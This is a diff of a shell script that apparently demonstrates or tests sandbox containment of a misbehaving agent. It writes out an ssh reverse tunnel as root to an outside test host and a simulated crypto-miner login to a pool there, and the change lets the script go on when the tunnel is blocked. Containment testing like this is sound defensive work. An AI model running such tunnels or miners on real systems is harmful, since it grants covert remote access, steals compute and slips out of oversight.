@@ -22,7 +22,7 @@ ls / >/dev/null
 $PY -c 'print(sum(range(10**5)))' >/dev/null
 
 say "opening a reverse tunnel: ssh -f -N -R $RPORT:127.0.0.1:8888 root@198.18.0.1"
-ssh -F "$CFG" -f -N -R "$RPORT:127.0.0.1:8888" root@198.18.0.1
+ssh -F "$CFG" -f -N -R "$RPORT:127.0.0.1:8888" root@198.18.0.1 || say "the tunnel did not open (contained?)"
 
 say "starting a miner: a stratum login to the pool at 198.18.0.1:3333"
 $PY "$DEMO_DIR/fake_miner.py" 198.18.0.1 3333 --stay 1 | sed 's/^/  agent: /'
